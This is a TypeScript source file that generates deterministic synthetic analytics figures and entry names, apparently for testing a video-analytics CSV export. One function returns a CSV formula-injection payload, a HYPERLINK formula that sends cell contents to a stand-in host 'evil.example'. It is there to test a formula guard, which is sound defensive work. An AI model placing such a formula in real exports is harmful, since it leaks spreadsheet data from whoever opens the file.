/**
 * Deterministic synthetic analytics: every number is derived from a hash of (scope, report type,
 * window), so the same entry id and window always give the same figures.
 * Scenario ids (SPEC §7): `quiet` = no plays, `big` = `bigRowCount` table rows, `unhealthy` = bad beacons.
 */
import { hash32, intIn, mix, unit } from './util.js';

/** Entry names that exercise CSV code: commas, quotes, the `|` and `;` delimiters, non-ASCII. */
const NAME_PARTS: ReadonlyArray<string> = [
  'Quarterly All-Hands',
  'Onboarding, part 2',
  'CEO "Town Hall" recap',
  'Café résumé — naïve déjà vu',
  'Tokyo 東京 product tour',
  'Webinar | Q&A session',
  'Release notes; sprint 42',
  'Müller & Søn: safety training',
  'Intro to Kaltura REACH',
  'Keynote 🎤 highlights',
  'Sales kick-off',
  'Customer story: ACME',
];

/**
 * Ids containing `formula`: the name an end user typed to attack whoever opens the export in a
 * spreadsheet (OWASP "CSV injection"), for the CSV formula guard.
 */
export function isFormula(id: string): boolean {
  return id.includes('formula');
}

export function entryNameFor(entryId: string): string {
  if (isFormula(entryId)) return `=HYPERLINK("https://evil.example/?leak="&A1,"Watch ${entryId}")`;
  const h = hash32(`name:${entryId}`);
  const base = NAME_PARTS[h % NAME_PARTS.length] ?? 'Untitled';
  return `${base} (${entryId})`;
}

/** The deterministic set of entries used when a report has no entry filter. */
export const DEFAULT_ENTRY_IDS: ReadonlyArray<string> = Array.from({ length: 36 }, (_, i) => `1_${mix(0x5eed, i).toString(36).padStart(7, '0').slice(0, 8)}`);

export function isQuiet(id: string): boolean {
  return id.includes('quiet');
}
export function isBig(id: string): boolean {
  return id.includes('big');
}
export function isUnhealthy(id: string): boolean {
  return id.includes('unhealthy');
}

const CREATORS = ['alice@example.com', 'bob.smith', 'Chloé Dubois', 'Dmitri, K.', 'eve "the editor"', '山田 太郎'];
const SOURCES = ['Upload', 'Webcam', 'Kaltura Meeting', 'Zoom', 'Live', 'YouTube'];
const MEDIA_TYPES = ['Video', 'Audio', 'Image', 'Live stream'];

/** Row context used by the column generators. */
export interface RowContext {
  /** Seed of this row (scope + report + window + row key). */
  readonly seed: number;
  readonly index: number;
  /** object_id of the row: an entry id, a user id, a dimension value, a date id. */
  readonly key: string;
  /** Display value of the dimension (e.g. country name); defaults to key. */
  readonly label?: string;
  /** Secondary attribute (e.g. coordinates). */
  readonly extra?: string;
}

const FRACTIONS = Array.from({ length: 10000 }, (_, i) => (i === 0 ? '' : '.' + String(i).padStart(4, '0').replace(/0+$/, '')));

/** Up to 4 decimals, no trailing zeros (like PHP's float to string for these values); fast. */
function fmt(value: number): string {
  if (Number.isInteger(value)) return String(value);
  const negative = value < 0;
  const scaled = Math.round(Math.abs(value) * 10000);
  const whole = Math.floor(scaled / 10000);
  const out = String(whole) + (FRACTIONS[scaled - whole * 10000] ?? '');
  return negative && scaled !== 0 ? '-' + out : out;
}

/** Base figures of a row, computed once per row and shared by its metric columns. */
export interface RowBase {
  readonly seed: number;
  readonly plays: number;
  readonly loads: number;
  readonly avgTime: number;
}

export function rowBase(seed: number, scale = 1): RowBase {
  const plays = Math.max(1, Math.round(intIn(seed, 1, 5, 5000) * scale));
  const loads = plays + intIn(seed, 2, 0, plays * 2);
  const avgTime = 0.5 + unit(seed, 3) * 20;
  return { seed, plays, loads, avgTime };
}

const NAME_SALT = new Map<string, number>();
function salt(name: string): number {
  let h = NAME_SALT.get(name);
  if (h === undefined) {
    h = hash32(name);
    NAME_SALT.set(name, h);
  }
  return h;
}

/** One metric of a row. */
export function metricOf(name: string, base: RowBase): number {
  const { seed, plays, loads, avgTime } = base;
  switch (name) {
    case 'count_plays':
      return plays;
    case 'count_loads':
      return loads;
    case 'sum_time_viewed':
      return Math.round(plays * avgTime * 100) / 100;
    case 'avg_time_viewed':
      return Math.round(avgTime * 10000) / 10000;
    case 'load_play_ratio':
      return Math.round((plays / loads) * 10000) / 10000;
    case 'avg_view_drop_off':
      return Math.round(unit(seed, 4) * 10000) / 10000;
    case 'avg_completion_rate':
      return Math.round(unit(seed, 5) * 10000) / 10000;
    case 'unique_known_users':
    case 'unique_viewers':
      return Math.max(1, Math.floor(plays * (0.3 + unit(seed, 6) * 0.6)));
    case 'count_plays_25':
      return Math.floor(plays * 0.8);
    case 'count_plays_50':
      return Math.floor(plays * 0.6);
    case 'count_plays_75':
      return Math.floor(plays * 0.45);
    case 'count_plays_100':
      return Math.floor(plays * 0.3);
    case 'play_through_ratio':
      return Math.round((Math.floor(plays * 0.3) / plays) * 10000) / 10000;
    case 'count_viral':
    case 'count_download':
    case 'count_share':
    case 'count_report':
      return intIn(seed, salt(name), 0, Math.max(1, Math.floor(plays / 20)));
    case 'sum_view_period':
      return Math.round(plays * avgTime * 0.9 * 100) / 100;
    case 'avg_view_period_time':
      return Math.round(avgTime * 0.9 * 10000) / 10000;
    default:
      return intIn(seed, salt(name), 0, plays);
  }
}

/** Metric value from a seed (computes the row base; use rowBase + metricOf in loops). */
export function metricValue(name: string, seed: number, scale = 1): number {
  return metricOf(name, rowBase(seed, scale));
}

export function isAverage(name: string): boolean {
  return name.startsWith('avg_') || name.includes('ratio') || name.includes('rate');
}

export function formatMetric(value: number): string {
  return fmt(value);
}

/** Dimension column values. */
export function dimensionValue(name: string, row: RowContext): string {
  switch (name) {
    case 'object_id':
    case 'entry_id':
      return row.key;
    case 'entry_name':
      return entryNameFor(row.key);
    case 'creator_name':
      return CREATORS[mix(row.seed, 11) % CREATORS.length] ?? '';
    case 'created_at':
      return String(1672531200 + (mix(hash32(row.key), 12) % 94608000));
    case 'status':
      return '2';
    case 'media_type':
      return MEDIA_TYPES[mix(hash32(row.key), 13) % MEDIA_TYPES.length] ?? 'Video';
    case 'duration_msecs':
      return String(30000 + (mix(hash32(row.key), 14) % 7200000));
    case 'entry_source':
      return SOURCES[mix(hash32(row.key), 15) % SOURCES.length] ?? 'Upload';
    case 'coordinates':
      return row.extra ?? '';
    case 'name':
    case 'user_id':
      return row.key;
    case 'full_name':
      return row.label ?? row.key;
    case 'date_id':
      return row.key;
    default:
      return row.label ?? row.key;
  }
}
